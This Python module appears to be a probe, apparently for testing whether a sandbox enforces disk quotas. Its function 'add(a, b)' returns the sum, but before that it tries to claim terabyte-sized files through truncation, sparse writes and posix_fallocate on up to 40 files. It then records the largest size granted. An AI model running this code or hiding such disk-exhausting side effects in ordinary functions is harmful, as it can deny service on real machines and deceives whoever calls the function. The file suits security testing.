"""Makes files that claim terabytes and hold nothing, reserves blocks without writing, and truncates upwards."""

import contextlib
import os

EVIDENCE = "@EVIDENCE@"
SIZES = [1 << 44, 1 << 40, 1 << 34, 200 << 20, 15 << 20]


def claim(path, reserve):
    """Returns the largest size that was granted, in bytes."""
    for size in SIZES:
        try:
            descriptor = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
            try:
                reserve(descriptor, size)
            finally:
                os.close(descriptor)
        except (OSError, OverflowError):
            continue
        return size
    return 0


def by_writing_at_the_end(descriptor, size):
    os.pwrite(descriptor, b"x", size - 1)


def by_reserving(descriptor, size):
    os.posix_fallocate(descriptor, 0, size)


def add(a, b):
    granted = [claim("truncated", os.ftruncate), claim("holes", by_writing_at_the_end)]
    granted += [claim(f"reserved_{number}", by_reserving) for number in range(40)]
    if max(granted) > 150 << 20:
        print("OBTAINED a file of", max(granted), "bytes")
        with contextlib.suppress(OSError), open(f"{EVIDENCE}/obtained", "w") as file:
            file.write(str(max(granted)))
    return a + b
